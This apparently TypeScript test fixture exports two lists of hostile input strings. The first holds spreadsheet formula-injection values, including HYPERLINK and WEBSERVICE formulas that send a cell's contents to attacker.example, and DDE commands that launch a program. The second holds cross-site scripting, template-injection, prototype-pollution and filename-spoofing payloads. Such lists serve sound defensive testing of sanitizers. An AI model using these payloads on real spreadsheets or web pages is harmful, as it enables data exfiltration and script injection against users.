/** Texts that spreadsheets take for formulas, by what they would do. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://attacker.example/?"&A1,"Click")', '=WEBSERVICE("http://attacker.example/"&A1)', "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /c calc'!A1",
  "+1+1", "-1+1", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1", "＠A1", '"=1+1"', '=1+1"\t=2+2\n=3+3', "'=1+1", "DDE(\"cmd\";\"/c calc\";\"!A0\")",
  "=IMPORTXML(\"http://attacker.example\",\"//a\")", "=1+1;=2+2,=3+3", "\u200B=1+1", "\uFEFF=1+1",
];

/** Texts that a careless page takes for elements, attributes, styles or addresses. Each asks for or does something of its own. */
export const ELEMENTS: readonly string[] = [
  "<script>window.attacked='script'</script>", "<img src=x onerror=\"window.attacked='img'\">", "<svg/onload=\"window.attacked='svg'\">",
  "<iframe src=\"javascript:parent.attacked='frame'\"></iframe>", "<a href=\"javascript:window.attacked='link'\">Click</a>", "<style>*{display:none!important}</style>",
  "\"><img src=\"http://attacker.example/p.png\">", "' autofocus onfocus='window.attacked=1", "<meta http-equiv=\"refresh\" content=\"0;url=http://attacker.example/\">",
  "<base href=\"http://attacker.example/\">", "</title><script>window.attacked='title'</script>", "<!--", "]]>", "&lt;b&gt;", "${window.attacked=1}", "{{window.attacked=1}}",
  "javascript:window.attacked='url'", "url(http://attacker.example/b.png)", "<input autofocus onfocus=\"window.attacked='input'\">", "<details open ontoggle=\"window.attacked='details'\">",
  "__proto__", "constructor", "toString", "%s%n", "\u202Egpj.exe",
];
